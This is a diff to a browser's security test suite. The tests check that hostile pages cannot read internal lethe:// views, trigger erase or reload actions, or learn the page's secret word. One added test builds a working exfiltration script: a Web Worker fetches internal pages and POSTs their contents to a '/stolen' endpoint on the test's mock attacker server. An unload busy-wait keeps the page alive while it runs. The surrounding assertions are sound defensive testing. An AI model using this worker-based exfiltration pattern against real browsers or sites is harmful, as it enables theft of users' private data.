@@ -1,7 +1,8 @@
 // Break-out attempts on our own pages: no website reads them, presses them or erases a visit, by whatever means it asks.
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { wordElement, wordHeader } from '../../../contract/page-word.ts';
 import { eventually, type Page, pageAt } from '../../support/station/devtools.ts';
-import { type Besieged, startBesieged } from './besieged.ts';
+import { type Besieged, start, startBesieged } from './besieged.ts';
 import { html, places, script } from './hostile-site.ts';
 
 let besieged: Besieged;
@@ -23,13 +24,8 @@ async function stillThere(): Promise<void> {
 }
 
 const deeds = ['lethe://tab/do/erase', 'lethe://tab/do/reload'];
-const texts = [
-  'lethe://tab/view.json',
-  'lethe://tab/knows.json',
-  'lethe://tab/knows.json?names=1',
-  'lethe://tab/home',
-  'lethe://bar/index.html',
-];
+const views = ['/view.json', '/knows.json', '/knows.json?names=1'];
+const texts = [...views.map((path) => `lethe://tab${path}`), 'lethe://tab/home', 'lethe://bar/index.html'];
 
 /** Every way of asking: plain, without rules of origin, and with the header that our own pages send. */
 const asking = (address: string, method: string): string[] =>
@@ -37,7 +33,7 @@ const asking = (address: string, method: string): string[] =>
     "{ method: 'M' }",
     "{ method: 'M', mode: 'no-cors' }",
     "{ method: 'M', mode: 'no-cors', keepalive: true }",
-    "{ method: 'M', headers: { 'lethe-deed': 'x', 'lethe-pass': 'x' } }",
+    `{ method: 'M', headers: { '${wordHeader}': 'x', 'lethe-pass': 'x' } }`,
   ].map((how) => `fetch('${address}', ${how.replace('M', method)})`);
 
 /** What came of a request, as text: the status and what was read, or the name of the error. */
@@ -46,17 +42,32 @@ const outcome = (request: string) =>
 
 describe('P7 A page cannot leave its place.', () => {
   describe('A page of ours', () => {
-    it('reads its own view, and the deed that it asks for is done', async () => {
+    it('reads its own view, and the deed that it asks for is done, by the word in its document', async () => {
       await besieged.again('lethe://tab/home');
-      expect(await besieged.run<string>(`return ${outcome("fetch('/view.json')")}`)).toMatch(/^200 .*Harbour Street/);
-      expect(
-        await besieged.run<string>(
-          `return ${outcome("fetch('/do/reload', { method: 'POST', headers: { 'lethe-deed': 'reload' } })")}`,
-        ),
-      ).toBe('204 ');
-      expect(await besieged.run<string>(`return ${outcome("fetch('/do/reload', { method: 'POST' })")}`)).toMatch(
-        /^404/,
+      const headers = `headers: { '${wordHeader}': document.querySelector('meta[name=${wordElement}]').content }`;
+      expect(await besieged.run<string>(`return ${outcome(`fetch('/view.json', { ${headers} })`)}`)).toMatch(
+        /^200 .*Harbour Street/,
       );
+      expect(
+        await besieged.run<string>(`return ${outcome(`fetch('/do/reload', { method: 'POST', ${headers} })`)}`),
+      ).toBe('204 ');
+      for (const [path, method] of [...views.map((path) => [path, 'GET']), ['/do/erase', 'POST']])
+        for (const wrong of ['{}', `{ '${wordHeader}': 'x' }`])
+          expect(
+            await besieged.run<string>(
+              `return ${outcome(`fetch('${path}', { method: '${method}', headers: ${wrong} })`)}`,
+            ),
+          ).toMatch(/^404/);
+      await stillThere();
+    });
+
+    it('has a word that no script is answered with, not even its own', async () => {
+      await besieged.again('lethe://tab/home');
+      const word = await besieged.run<string>(`return document.querySelector('meta[name=${wordElement}]').content`);
+      expect(word).toMatch(/^[0-9a-f-]{36}$/);
+      const document = await besieged.run<string>(`return ${outcome("fetch('/home')")}`);
+      expect(document).toMatch(/^200 .*<title>/s);
+      expect(document).not.toContain(word);
     });
   });
 
@@ -125,7 +136,8 @@ describe('P7 A page cannot leave its place.', () => {
       await stillThere();
     });
 
-    it('can not in its last moment, while our home page takes its place', async () => {
+    // The gate takes these requests for our page's own where they come late enough: only some turns do.
+    it.each([1, 2, 3, 4, 5])('can not in its last moment, while our home page takes its place (%i)', async () => {
       const last = asking('lethe://tab/do/erase', 'POST')
         .map((request) => `try { ${request}.catch(() => 0) } catch {}`)
         .join('; ');
@@ -135,6 +147,33 @@ describe('P7 A page cannot leave its place.', () => {
         ),
       ).toBe('lethe://tab/home');
       await new Promise((resolve) => setTimeout(resolve, 500));
+      await stillThere();
+    });
+
+    it('reads nothing of the visit by a worker that it leaves behind', async () => {
+      const stolen: string[] = [];
+      besieged.site.put('/stolen', ({ body }) => {
+        stolen.push(body.toString('utf8'));
+        return { status: 204, headers: {}, body: '' };
+      });
+      const steal = `for (;;) for (const address of ${JSON.stringify(texts)}) { try { const answer = await fetch(address); await fetch('${start}stolen', { method: 'POST', mode: 'no-cors', body: answer.status + ' ' + await answer.text() }) } catch {} }`;
+      const lastsOn =
+        "addEventListener('unload', () => { const until = Date.now() + 450; while (Date.now() < until); })";
+      for (const _turn of [1, 2, 3, 4]) {
+        await besieged.again();
+        expect(
+          await besieged.lead(
+            `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`(async () => { ${steal} })()`)}]))); ${lastsOn}; setTimeout(() => location.assign('lethe://tab/home'), 200)`,
+          ),
+        ).toBe('lethe://tab/home');
+        await new Promise((resolve) => setTimeout(resolve, 500));
+      }
+      // The gate can't keep it from asking: it is answered with the empty page that anybody may see, or with nothing.
+      expect(stolen.length).toBeGreaterThan(0);
+      for (const text of stolen) {
+        expect(text).toMatch(/^(404 $|200 <!doctype html>)/);
+        expect(text).not.toContain(wordElement);
+      }
       await stillThere();
     });
 
